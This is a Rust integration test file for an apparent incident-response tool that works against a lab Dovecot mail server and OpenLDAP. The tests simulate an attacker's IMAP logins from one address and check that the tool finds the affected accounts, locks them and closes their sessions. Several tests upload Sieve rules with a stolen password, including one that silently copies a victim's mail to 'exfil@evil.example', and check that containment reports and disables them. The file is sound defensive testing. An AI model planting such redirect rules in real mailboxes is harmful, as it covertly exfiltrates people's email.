//! Following the attacker against the lab's real Dovecot (IMAP, ManageSieve, doveadm API, its
//! login log) and OpenLDAP: the pivot on an address, the contained accounts, the kick by
//! address, and the redirect rule an attacker uploads.

use std::io::Write;
use std::path::PathBuf;
use std::sync::Arc;

use cadenas::directory::{LockState, UserRef};
use cadenas::incident::{ContainOptions, ReleaseOptions, Responder};
use cadenas::investigate::{AddressRange, Instant, Pivot, SightingKind};
use cadenas::journal::{self, Event, Step, StepStatus};
use cadenas::{Config, ErrorKind};

use crate::incident::{temp_journal, MemorySink};
use crate::support::{dovecot_env, Imap, OpenLdapLab};

/// The lab config with the Dovecot revoker and the `[mail]` section (`lab/dovecot.sh`).
fn config_with_mail(lab: &OpenLdapLab, edit: impl Fn(String) -> String) -> Config {
    let extra = std::fs::read_to_string(&dovecot_env()["CADENAS_LAB_REVOKERS"]).expect("revokers.toml");
    lab.config_with(|t| edit(format!("{t}\n{extra}")))
}

/// An attacker address no other test uses: 127.<net>.<pid-derived>.
fn attacker_address(net: u8) -> String {
    let pid = std::process::id();
    format!("127.{net}.{}.{}", pid % 250, 1 + (pid / 250) % 250)
}

fn pw(lab: &OpenLdapLab) -> String {
    lab.get("CADENAS_LAB_USER_PW").to_owned()
}

#[tokio::test]
async fn a_pivot_on_the_attackers_address_contains_exactly_its_accounts_and_kicks_the_rest() {
    let lab = OpenLdapLab::load();
    let env = dovecot_env();
    let imap = env["CADENAS_LAB_IMAP"].clone();
    let ip = attacker_address(66);
    let (v1, v1_dn) = lab.fresh_user("pivot-a").await;
    let (v2, _) = lab.fresh_user("pivot-b").await;
    let (legit, _) = lab.fresh_user("pivot-legit").await;

    // The attacker uses two stolen passwords and a protected account's from one address;
    // a colleague works from another address at the same time.
    let mut sessions = Vec::new();
    for u in [v1.as_str(), v2.as_str(), "admin0001"] {
        let mut s = Imap::login_from(&imap, &ip, u, &pw(&lab))
            .await
            .unwrap_or_else(|e| panic!("attacker login {u}: {e}"));
        s.idle().await;
        sessions.push(s);
    }
    let mut colleague = Imap::login_from(&imap, "127.0.0.1", legit.as_str(), &pw(&lab))
        .await
        .expect("colleague login");
    colleague.idle().await;

    let cfg = config_with_mail(&lab, |t| t);
    let journal_path = temp_journal("pivot");
    let r = Responder::new(&cfg, &journal_path).await.expect("responder");
    let pivot = Pivot::new(AddressRange::parse(&format!("{ip}/32")).expect("range"));

    // Who: exactly the three, live (and in the login log), never the colleague.
    let seen = r.sightings(&pivot).await.expect("sightings");
    let mut users = seen.users.clone();
    users.sort();
    let mut want = vec![v1.to_string(), v2.to_string(), "admin0001".to_owned()];
    want.sort();
    assert_eq!(users, want, "{seen:#?}");
    assert!(seen.tried_only.is_empty());
    let live: Vec<_> = seen
        .sightings
        .iter()
        .filter(|s| s.kind == SightingKind::LiveSession)
        .collect();
    assert_eq!(live.len(), 3, "{seen:#?}");
    assert!(live
        .iter()
        .all(|s| s.ip == ip && s.service == "imap" && s.source == "mail"));
    assert!(seen.why(v1.as_str()).contains(&ip), "{}", seen.why(v1.as_str()));

    // The plan says who and why, and changes nothing.
    let plan = r.plan_from(&pivot, false).await.expect("plan");
    assert_eq!(plan.pivot.as_ref().map(|p| p.users.len()), Some(3));
    let refused: Vec<_> = plan
        .users
        .iter()
        .filter_map(|u| u.refused.as_ref().map(|e| (u.user.as_str(), e.kind())))
        .collect();
    assert_eq!(refused, [("admin0001", ErrorKind::ProtectedAccount)]);
    assert!(
        plan.address_actions
            .iter()
            .any(|a| a.contains(&format!("kick mask={ip}/32"))),
        "{:?}",
        plan.address_actions
    );
    let dir = r.directory();
    let u1 = dir.find_user(&UserRef::Dn(v1_dn.clone())).await.expect("find");
    assert_eq!(
        dir.account_state(&u1).await.expect("state").lock,
        LockState::Unlocked
    );

    // Contain: the two accounts are contained, the protected one refused but its session
    // kicked, the colleague untouched.
    let report = r
        .contain_from(&pivot, ContainOptions::new(Arc::new(MemorySink::default())))
        .await
        .expect("contain_from");
    assert_eq!((report.done(), report.failed()), (2, 1), "{report:#?}");
    let admin = report
        .users
        .iter()
        .find(|u| u.user == "admin0001")
        .expect("admin");
    assert_eq!(
        admin.refused.as_ref().map(|e| e.kind()),
        Some(ErrorKind::ProtectedAccount)
    );
    assert_eq!(report.address_kicks.len(), 1);
    let kick = &report.address_kicks[0];
    assert_eq!(
        (kick.sessions_found, kick.sessions_closed),
        (Some(1), 1),
        "{kick:#?}"
    );
    assert!(kick.collateral.is_empty(), "{kick:#?}");
    assert!(
        report
            .not_revoked
            .iter()
            .any(|n| n.starts_with("admin0001 was seen from") && n.contains("password still works")),
        "{:?}",
        report.not_revoked
    );
    assert!(report.pivot.is_some());
    for (i, s) in sessions.iter_mut().enumerate() {
        assert!(s.closed_within(5).await, "attacker session {i} still open");
    }
    assert!(colleague.alive().await, "the colleague's session was closed");
    assert_eq!(
        dir.account_state(&u1).await.expect("state").lock,
        LockState::Locked
    );

    // The stolen passwords of the contained accounts are dead; the refused account's is not,
    // as the report says.
    assert!(Imap::refused(
        &Imap::login_from(&imap, &ip, v1.as_str(), &pw(&lab)).await
    ));
    assert!(Imap::login_from(&imap, &ip, "admin0001", &pw(&lab)).await.is_ok());

    // The journal: the start note names the pivot, the kick by address is a record.
    let records = journal::read(&journal_path).expect("journal");
    assert!(records.iter().any(|rec| matches!(&rec.event,
        Event::IncidentStart { note: Some(n), .. } if n.contains(&format!("pivot on {ip}/32")))));
    assert!(records.iter().any(|rec| matches!(&rec.event,
        Event::AddressKick { range, outcomes } if *range == format!("{ip}/32") && outcomes[0].sessions_closed == 1)));
    assert!(journal::verify(&journal_path)
        .expect("verify")
        .first_bad
        .is_none());
}

#[tokio::test]
async fn logins_that_ended_are_found_in_the_log_and_its_gzip_copy_within_the_window() {
    let lab = OpenLdapLab::load();
    let env = dovecot_env();
    let imap = env["CADENAS_LAB_IMAP"].clone();
    let ip = attacker_address(67);
    let (used, used_dn) = lab.fresh_user("log-used").await;
    let (tried, _) = lab.fresh_user("log-tried").await;
    let before = Instant::from_unix(Instant::now().unix() - 2);

    // Logged in and out again, and a failed guess at another account: nothing live is left.
    drop(
        Imap::login_from(&imap, &ip, used.as_str(), &pw(&lab))
            .await
            .expect("login"),
    );
    assert!(Imap::refused(
        &Imap::login_from(&imap, &ip, tried.as_str(), "not-the-password").await
    ));

    let cfg = config_with_mail(&lab, |t| t);
    let r = Responder::new(&cfg, &temp_journal("pivot-log"))
        .await
        .expect("responder");
    let range = AddressRange::parse(&format!("{ip}/32")).expect("range");
    let log = PathBuf::from(&env["CADENAS_LAB_DOVECOT_LOG"]);

    // The rotated copy: the same log, gzip'd (found by content, whatever its name).
    let gz = std::env::temp_dir().join(format!("cadenas-dovecot-{}.log.1", std::process::id()));
    let mut seen = None;
    for _ in 0..50 {
        let text = std::fs::read(&log).expect("log");
        let mut enc = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
        enc.write_all(&text).expect("gzip");
        std::fs::write(&gz, enc.finish().expect("gzip")).expect("write gz");
        let mut pivot = Pivot::new(range);
        pivot.auth_logs = vec![gz.clone()];
        pivot.since = Some(before);
        let s = r.sightings(&pivot).await.expect("sightings");
        if !s.tried_only.is_empty() {
            seen = Some(s);
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    let seen = seen.expect("the log lines arrive");
    assert_eq!(seen.users, [used.to_string()], "{seen:#?}");
    assert_eq!(seen.tried_only, [tried.to_string()], "{seen:#?}");
    let login = seen
        .sightings
        .iter()
        .find(|s| s.kind == SightingKind::LoggedIn)
        .expect("login");
    assert_eq!((login.ip.as_str(), login.service.as_str()), (ip.as_str(), "imap"));
    assert!(login.first_seen.is_some_and(|t| t >= before), "{login:?}");
    assert!(!seen.sightings.iter().any(|s| s.kind == SightingKind::LiveSession));

    // Outside the window: nothing.
    let mut old = Pivot::new(range);
    old.auth_logs = vec![gz.clone()];
    old.until = Some(Instant::from_unix(before.unix() - 3600));
    let none = r.sightings(&old).await.expect("sightings");
    assert!(none.users.is_empty() && none.tried_only.is_empty(), "{none:#?}");

    // An unreadable log is an error, not a silent gap.
    let mut missing = Pivot::new(range);
    missing.auth_logs = vec!["/nonexistent/dovecot.log".into()];
    assert_eq!(
        r.sightings(&missing).await.expect_err("missing").kind(),
        ErrorKind::Io
    );

    // Containing from the log (the [mail] auth_logs default) takes the used account, not the tried one.
    let mut pivot = Pivot::new(range);
    pivot.since = Some(before);
    let report = r
        .contain_from(&pivot, ContainOptions::new(Arc::new(MemorySink::default())))
        .await
        .expect("contain_from");
    assert_eq!(
        report.users.iter().map(|u| u.user.as_str()).collect::<Vec<_>>(),
        [used.as_str()]
    );
    assert_eq!(report.done(), 1, "{report:#?}");
    assert_eq!(report.address_kicks[0].sessions_found, Some(0));
    let dir = r.directory();
    let u = dir.find_user(&UserRef::Dn(used_dn)).await.expect("find");
    assert_eq!(
        dir.account_state(&u).await.expect("state").lock,
        LockState::Locked
    );
    let _ = std::fs::remove_file(gz);
}

/// Uploads `script` as `name` with sieve-connect (a real ManageSieve client), logged in with the
/// stolen password, and activates it when asked.
pub(crate) fn upload_sieve(lab: &OpenLdapLab, user: &str, name: &str, script: &str, activate: bool) {
    let env = dovecot_env();
    let (host, port) = env["CADENAS_LAB_MANAGESIEVE"].split_once(':').expect("host:port");
    let file = std::env::temp_dir().join(format!("cadenas-{user}-{name}.sieve"));
    std::fs::write(&file, script).expect("script file");
    let mut actions = vec!["--upload"];
    if activate {
        actions.push("--activate");
    }
    for action in actions {
        let mut child = std::process::Command::new("sieve-connect")
            .args([
                "--server",
                host,
                "--port",
                port,
                "--user",
                user,
                "--passwordfd",
                "0",
            ])
            .args(["--clearchan", action, "--remotesieve", name, "--localsieve"])
            .arg(&file)
            .stdin(std::process::Stdio::piped())
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .expect("sieve-connect (lab/dovecot.sh installs it)");
        child
            .stdin
            .take()
            .expect("stdin")
            .write_all(format!("{}\n", pw(lab)).as_bytes())
            .expect("password");
        let out = child.wait_with_output().expect("sieve-connect");
        assert!(
            out.status.success(),
            "sieve-connect {action}: {}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
    }
    let _ = std::fs::remove_file(file);
}

/// `doveadm sieve list` on the lab's Dovecot, as an operator would check.
fn doveadm_sieve_list(user: &str) -> String {
    let out = std::process::Command::new("doveadm")
        .args([
            "-c",
            &dovecot_env()["CADENAS_LAB_DOVECOT_CONF"],
            "sieve",
            "list",
            "-u",
            user,
        ])
        .output()
        .expect("doveadm");
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// Contains `user` alone (passwords to a memory sink).
async fn contain_one(r: &Responder, user: &str) -> cadenas::incident::ContainReport {
    r.contain(
        &[crate::support::one(user)],
        ContainOptions::new(Arc::new(MemorySink::default())),
    )
    .await
    .expect("contain")
}

/// The revoke step of the first user of `report`.
fn revoke_step(report: &cadenas::incident::ContainReport) -> &cadenas::incident::StepReport {
    report.users[0]
        .steps
        .iter()
        .find(|s| s.step == Step::RevokeSessions)
        .expect("revoke step")
}

const EVIL: &str = "require [\"copy\"];\n# keep a copy for us\nredirect :copy \"exfil@evil.example\";\n";

#[tokio::test]
async fn the_attackers_redirect_rule_is_reported_then_deactivated_by_contain_and_stays_off() {
    let lab = OpenLdapLab::load();
    let (victim, _) = lab.fresh_user("sieve-victim").await;
    // A staged rule kept inactive, a harmless local one, and the active exfiltration rule.
    upload_sieve(
        &lab,
        victim.as_str(),
        "staged",
        "redirect \"later@evil.example\";\n",
        false,
    );
    upload_sieve(
        &lab,
        victim.as_str(),
        "team",
        "redirect \"deputy@example.test\";\n",
        false,
    );
    upload_sieve(&lab, victim.as_str(), "rules", EVIL, true);
    assert!(doveadm_sieve_list(victim.as_str()).contains("rules ACTIVE"));

    let cfg = config_with_mail(&lab, |t| t);
    let journal_path = temp_journal("sieve");
    let r = Responder::new(&cfg, &journal_path).await.expect("responder");

    // status: both external rules named, nothing changed.
    let st = r
        .status_report(&crate::support::one(victim.as_str()), None)
        .await
        .expect("status");
    let mut names: Vec<_> = st
        .mail_rules
        .iter()
        .map(|m| (m.script.as_str(), m.active, m.deactivated))
        .collect();
    names.sort();
    assert_eq!(names, [("rules", true, false), ("staged", false, false)]);
    let rule = st.mail_rules.iter().find(|m| m.script == "rules").expect("rules");
    assert_eq!(rule.redirects[0].command, "redirect :copy");
    assert_eq!(rule.redirects[0].target, "exfil@evil.example");
    use sha2::Digest;
    assert_eq!(rule.sha256, hex::encode(sha2::Sha256::digest(EVIL.as_bytes())));
    assert!(doveadm_sieve_list(victim.as_str()).contains("rules ACTIVE"));

    // contain deactivates the active one and journals it.
    let report = contain_one(&r, victim.as_str()).await;
    let revoke = revoke_step(&report);
    assert_ne!(revoke.status, StepStatus::Failed, "{revoke:#?}");
    let deactivated: Vec<_> = revoke
        .detail
        .mail_rules
        .iter()
        .filter(|m| m.deactivated)
        .map(|m| m.script.as_str())
        .collect();
    assert_eq!(deactivated, ["rules"]);
    let listed = doveadm_sieve_list(victim.as_str());
    assert!(listed.contains("rules") && !listed.contains("ACTIVE"), "{listed}");
    let journaled = journal::read(&journal_path).expect("journal").into_iter().any(|rec| {
        matches!(&rec.event, Event::Outcome { step: Step::RevokeSessions, detail, .. }
            if detail.mail_rules.iter().any(|m| m.script == "rules" && m.deactivated && m.sha256 == rule.sha256))
    });
    assert!(
        journaled,
        "the deactivation is journaled with the script's name and hash"
    );

    // release does not bring it back.
    r.release(
        &crate::support::one(victim.as_str()),
        ReleaseOptions::default().with_override_reason("test: identity checked"),
    )
    .await
    .expect("release");
    assert!(!doveadm_sieve_list(victim.as_str()).contains("ACTIVE"));
}

#[tokio::test]
async fn without_disable_external_redirects_the_rule_is_reported_and_left_active() {
    let lab = OpenLdapLab::load();
    let (victim, _) = lab.fresh_user("sieve-report").await;
    upload_sieve(&lab, victim.as_str(), "rules", EVIL, true);
    let cfg = config_with_mail(&lab, |t| {
        t.replace(
            "disable_external_redirects = true",
            "disable_external_redirects = false",
        )
    });
    let r = Responder::new(&cfg, &temp_journal("sieve-report"))
        .await
        .expect("responder");
    let report = contain_one(&r, victim.as_str()).await;
    let revoke = revoke_step(&report);
    assert_eq!(revoke.status, StepStatus::Partial, "{revoke:#?}");
    assert_eq!(revoke.detail.mail_rules.len(), 1);
    assert!(revoke.detail.mail_rules[0].active && !revoke.detail.mail_rules[0].deactivated);
    assert!(revoke
        .detail
        .note
        .as_deref()
        .unwrap_or("")
        .contains("left active"));
    // partial is done (as with collateral): the operator chose to report only
    assert!(report.users[0].complete());
    assert!(doveadm_sieve_list(victim.as_str()).contains("rules ACTIVE"));
}

#[tokio::test]
async fn a_resumed_pivot_run_still_kicks_the_attackers_address() {
    let lab = OpenLdapLab::load();
    let imap = dovecot_env()["CADENAS_LAB_IMAP"].clone();
    let ip = attacker_address(70);
    let (victim, _) = lab.fresh_user("pivot-resume").await;
    let mut session = Imap::login_from(&imap, &ip, victim.as_str(), &pw(&lab))
        .await
        .expect("attacker login");
    session.idle().await;
    let cfg = config_with_mail(&lab, |t| t);
    let journal_path = temp_journal("pivot-resume");
    let r = Responder::new(&cfg, &journal_path).await.expect("responder");
    let pivot = Pivot::new(AddressRange::parse(&ip).expect("range"));

    // stopped before the first step: nothing done, no kick
    let cancel = cadenas::incident::CancelToken::new();
    cancel.cancel();
    let mut opts = ContainOptions::new(Arc::new(MemorySink::default()));
    opts.cancel = Some(cancel);
    let stopped = r.contain_from(&pivot, opts).await.expect("contain_from");
    assert!(
        stopped.cancelled && stopped.address_kicks.is_empty(),
        "{stopped:#?}"
    );

    // the resume finishes the accounts and, as the journal says, the kick by address
    let done = r
        .resume(None, ContainOptions::new(Arc::new(MemorySink::default())))
        .await
        .expect("resume");
    assert_eq!(done.done(), 1, "{done:#?}");
    assert_eq!(done.address_kicks.len(), 1, "{done:#?}");
    assert!(session.closed_within(5).await);
    let kicks = journal::read(&journal_path)
        .expect("journal")
        .into_iter()
        .filter(|rec| matches!(&rec.event, Event::AddressKick { range, .. } if *range == format!("{ip}/32")))
        .count();
    assert_eq!(kicks, 1);
}

#[tokio::test]
async fn accounts_holding_live_sessions_are_reset_and_revoked_first_and_the_report_keeps_the_given_order() {
    let lab = OpenLdapLab::load();
    let imap = dovecot_env()["CADENAS_LAB_IMAP"].clone();
    let mut users = Vec::new();
    for i in 0..12 {
        users.push(lab.fresh_user(&format!("live-first{i}")).await.0.to_string());
    }
    // the attacker holds the last two of the list
    let mut sessions = Vec::new();
    for u in &users[10..] {
        let mut s = Imap::login(&imap, u, &pw(&lab)).await.expect("login");
        s.idle().await;
        sessions.push(s);
    }
    let journal_path = temp_journal("live-first");
    let r = Responder::new(&config_with_mail(&lab, |t| t), &journal_path)
        .await
        .expect("responder");
    let mut opts = ContainOptions::new(Arc::new(MemorySink::default()));
    opts.concurrency = 2;
    let report = r
        .contain(&crate::support::refs(&users), opts)
        .await
        .expect("contain");
    assert_eq!((report.done(), report.failed()), (12, 0), "{report:?}");
    let reported: Vec<&str> = report.users.iter().map(|u| u.user.as_str()).collect();
    assert_eq!(
        reported, users,
        "the report keeps the order the users were given in"
    );
    // two in flight: the first two resets are the accounts with live sessions
    let records = journal::read(&journal_path).expect("journal");
    let mut first_resets: Vec<String> = records
        .iter()
        .filter_map(|r| match &r.event {
            Event::Intent {
                user,
                step: Step::ResetPassword,
                ..
            } => Some(user.clone()),
            _ => None,
        })
        .take(2)
        .collect();
    first_resets.sort();
    assert_eq!(first_resets, users[10..].to_vec());
    for mut s in sessions {
        assert!(s.closed_within(5).await, "the attacker's session is closed");
    }
}
